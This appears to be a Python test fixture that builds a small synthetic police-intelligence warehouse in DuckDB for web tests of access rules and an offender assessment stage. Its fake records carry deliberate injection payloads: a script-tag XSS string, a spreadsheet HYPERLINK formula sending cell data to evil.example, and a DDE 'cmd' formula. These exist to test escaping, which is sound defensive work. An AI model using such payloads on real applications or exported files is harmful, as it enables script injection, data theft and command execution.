"""A tiny warehouse built inline for web tests: three forces, every handling code and
classification, one serial offender known by nicknames across forces, victims, an associate,
a shared phone, and a person held only under a restrictive marking.

The assessed variant (``build_warehouse(path, assessed=True)``) adds two offenders whose
priority score rests on records above their own (one's crime is marked higher than his
record; the other's victim's age comes only from a more sensitive record of hers) and runs
the assess stage over it. Tables are created from the model's table specs, so columns follow
the documented contract.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import duckdb

from toex.model.catalog import TABLES

DUCK_TYPES = {
    "string": "VARCHAR",
    "int64": "BIGINT",
    "date": "DATE",
    "float64": "DOUBLE",
    "boolean": "BOOLEAN",
    "timestamp": "TIMESTAMP",
    "array<string>": "VARCHAR[]",
}


def _mention(
    mid: str,
    pid: str,
    force: str,
    handling: str,
    cls: str,
    forename: str,
    surname: str,
    role: str,
    event: str | None,
    **extra: Any,
) -> dict[str, Any]:
    return {
        "mention_id": mid,
        "person_id": pid,
        "force": force,
        "handling_code": handling,
        "classification": cls,
        "forename": forename,
        "surname": surname,
        "forename_raw": extra.pop("forename_raw", forename.title()),
        "surname_raw": surname.title(),
        "role": role,
        "event_id": event,
        "slot": "1",
        "source_system": f"{force}-rms",
        "source_file": f"{force}.csv",
        "source_row": int(mid[-6:]),
        "source_record_id": f"R{mid}",
        "record_hash": mid * 2,
        "load_id": "L1",
        "grading": f"1A{handling}",
        **extra,
    }


MENTIONS: list[dict[str, Any]] = [
    _mention(
        "mention-000001",
        "P1",
        "cambs",
        "P",
        "OFFICIAL",
        "WILLIAM",
        "SMITH",
        "suspect",
        "e1",
        dob=dt.date(1990, 5, 1),
        dob_year=1990,
        phone="+447700900001",
        pnc_id="2008/0012345A",
        postcode="CB1 2AB",
    ),
    _mention(
        "mention-000002",
        "P1",
        "essex",
        "P",
        "OFFICIAL-SENSITIVE",
        "BILLY",
        "SMITH",
        "suspect",
        "e2",
        dob=dt.date(1990, 5, 1),
        dob_year=1990,
        email="billy@example.org",
    ),
    _mention(
        "mention-000003",
        "P1",
        "norfolk",
        "C",
        "SECRET",
        "BILL",
        "SMYTH",
        "subject",
        "e3",
        dob=dt.date(1990, 5, 1),
        dob_year=1990,
    ),
    _mention(
        "mention-000004",
        "V1",
        "cambs",
        "P",
        "OFFICIAL",
        "JANE",
        "DOE",
        "victim",
        "e1",
        dob=dt.date(2001, 2, 3),
        dob_year=2001,
    ),
    _mention(
        "mention-000005", "V2", "essex", "P", "OFFICIAL-SENSITIVE", "AMY", "BROWN", "victim", "e2"
    ),
    _mention(
        "mention-000006",
        "A1",
        "norfolk",
        "C",
        "SECRET",
        "TOM",
        "JONES",
        "associate",
        "e3",
        phone="+447700900001",
    ),
    _mention(
        "mention-000007",
        "P2",
        "norfolk",
        "C",
        "OFFICIAL",
        "HIDDEN",
        "PERSON",
        "suspect",
        "e4",
        postcode="NR1 1AA",
    ),
    _mention("mention-000008", "P3", "essex", "C", "OFFICIAL", "WILL", "SMITH", "witness", "e2"),
    _mention(
        "mention-000009",
        "P4",
        "cambs",
        "P",
        "OFFICIAL",
        "MARKUP",
        "TEST",
        "witness",
        None,
        forename_raw="<script>alert(1)</script>",
    ),
]

EVENTS: list[dict[str, Any]] = [
    {
        "event_id": "e1",
        "event_type": "crime",
        "reference": "CAM/1",
        "force": "cambs",
        "handling_code": "P",
        "classification": "OFFICIAL",
        "occurred_from": dt.date(2023, 1, 5),
        "offence_code": "19/11",
        "vawg": True,
        "lpc": "Cambridge City",
        "oic": "CAMBS1001",
    },
    {
        "event_id": "e2",
        "event_type": "crime",
        "reference": "ESX/2",
        "force": "essex",
        "handling_code": "P",
        "classification": "OFFICIAL-SENSITIVE",
        "occurred_from": dt.date(2023, 6, 1),
        "offence_code": "17/1",
        "vawg": True,
    },
    {
        "event_id": "e3",
        "event_type": "intelligence",
        "reference": "NFK/3",
        "force": "norfolk",
        "handling_code": "C",
        "classification": "SECRET",
        "occurred_from": dt.date(2023, 9, 9),
        "text": "Subject seen with associate",
    },
    {
        "event_id": "e4",
        "event_type": "crime",
        "reference": "NFK/4",
        "force": "norfolk",
        "handling_code": "C",
        "classification": "OFFICIAL",
        "occurred_from": dt.date(2022, 3, 3),
    },
]

OBJECTS: list[dict[str, Any]] = [
    {
        "object_id": "o1",
        "object_type": "phone",
        "value": "+447700900001",
        "mention_id": "mention-000001",
        "event_id": "e1",
        "force": "cambs",
        "handling_code": "P",
        "classification": "OFFICIAL",
    },
    {
        "object_id": "o2",
        "object_type": "phone",
        "value": "+447700900001",
        "mention_id": "mention-000006",
        "event_id": "e3",
        "force": "norfolk",
        "handling_code": "C",
        "classification": "SECRET",
    },
]


#: The assessed variant's extra records. P5 (cambs, OFFICIAL) raped V3 on e5 (OFFICIAL); the
#: crime records no age for her, so her age comes from her only dated record, which is
#: OFFICIAL-SENSITIVE. P6's record is OFFICIAL, but the crime it names (e6) and its victim
#: are OFFICIAL-SENSITIVE. V3's records carry values a spreadsheet would run as formulas.
ASSESSED_MENTIONS: list[dict[str, Any]] = [
    _mention("mention-000010", "P5", "cambs", "P", "OFFICIAL", "KARL", "HOLT", "suspect", "e5",
             dob=dt.date(1985, 3, 3), dob_year=1985, gender="M"),
    _mention("mention-000011", "V3", "cambs", "P", "OFFICIAL", "ROSE", "WREN", "victim", "e5",
             gender="F", address_raw='=HYPERLINK("http://evil.example/?"&A1,"open")',
             email="@evil.example"),
    _mention("mention-000012", "V3", "cambs", "P", "OFFICIAL-SENSITIVE", "ROSE", "WREN",
             "missing", None, dob=dt.date(2009, 6, 6), dob_year=2009, gender="F",
             address_raw="-2+3+cmd|' /C calc'!A0", cro_number="+1-1"),
    _mention("mention-000013", "P6", "essex", "P", "OFFICIAL", "DEAN", "MOSS", "suspect", "e6",
             dob=dt.date(1979, 9, 9), dob_year=1979, gender="M"),
    _mention("mention-000014", "V4", "essex", "P", "OFFICIAL-SENSITIVE", "EVE", "STONE",
             "victim", "e6", gender="F", age_at_event=30),
]  # fmt: skip
ASSESSED_EVENTS: list[dict[str, Any]] = [
    {
        "event_id": "e5",
        "event_type": "crime",
        "reference": "CAM/5",
        "force": "cambs",
        "handling_code": "P",
        "classification": "OFFICIAL",
        "occurred_from": dt.date(2023, 8, 8),
        "offence_code": "19C",
        "oic": "CAMBS1005",
        "lpc": "Fenland",
    },
    {
        "event_id": "e6",
        "event_type": "crime",
        "reference": "ESX/6",
        "force": "essex",
        "handling_code": "P",
        "classification": "OFFICIAL-SENSITIVE",
        "occurred_from": dt.date(2023, 7, 7),
        "offence_code": "19C",
        "oic": "ESSEX1006",
        "lpc": "North LPA",
    },
]


def _create(con: duckdb.DuckDBPyConnection, name: str, rows: list[dict[str, Any]]) -> None:
    spec = TABLES[name]
    cols = ", ".join(f'"{c.name}" {DUCK_TYPES[c.type]}' for c in spec.columns)
    con.execute(f"CREATE TABLE {name} ({cols})")
    names = spec.column_names
    placeholders = ", ".join("?" for _ in names)
    for row in rows:
        base = {
            "source_system": "x",
            "source_file": "x.csv",
            "source_row": 1,
            "source_record_id": "x",
            "record_hash": "h",
            "load_id": "L1",
            **row,
        }
        con.execute(f"INSERT INTO {name} VALUES ({placeholders})", [base.get(c) for c in names])


def build_warehouse(path: Path, assessed: bool = False) -> Path:
    """Write the tiny warehouse to ``path`` and return it (``assessed``: with the extra
    offenders and the assess stage's tables)."""
    mentions = MENTIONS + (ASSESSED_MENTIONS if assessed else [])
    con = duckdb.connect(str(path))
    _create(
        con,
        "staged_person_mention",
        [{k: v for k, v in m.items() if k != "person_id"} for m in mentions],
    )
    _create(con, "staged_event", EVENTS + (ASSESSED_EVENTS if assessed else []))
    _create(con, "staged_object", OBJECTS)
    _create(con, "staged_location", [])
    sizes: dict[str, int] = {}
    for m in mentions:
        sizes[m["person_id"]] = sizes.get(m["person_id"], 0) + 1
    _create(
        con,
        "resolved_mention_person",
        [
            {
                "mention_id": m["mention_id"],
                "person_id": m["person_id"],
                "cluster_size": sizes[m["person_id"]],
                "by_decision": False,
            }
            for m in mentions
        ],
    )
    _create(
        con,
        "resolved_match_pair",
        [
            {
                "mention_id_l": "mention-000001",
                "mention_id_r": "mention-000002",
                "match_weight": 12.0,
                "match_probability": 0.999,
                "linked": True,
            },
            {
                "mention_id_l": "mention-000002",
                "mention_id_r": "mention-000003",
                "match_weight": 9.0,
                "match_probability": 0.99,
                "linked": True,
            },
        ],
    )
    if assessed:
        from toex.assess.stage import run_assess

        run_assess(con)
    con.close()
    return path


def visible_mentions(forces: set[str], handling: set[str], classes: set[str]) -> set[str]:
    """The fixture's mentions visible under an access rule (computed independently)."""
    return {
        m["mention_id"]
        for m in MENTIONS
        if m["force"] in forces
        and m["handling_code"] in handling
        and m["classification"] in classes
    }
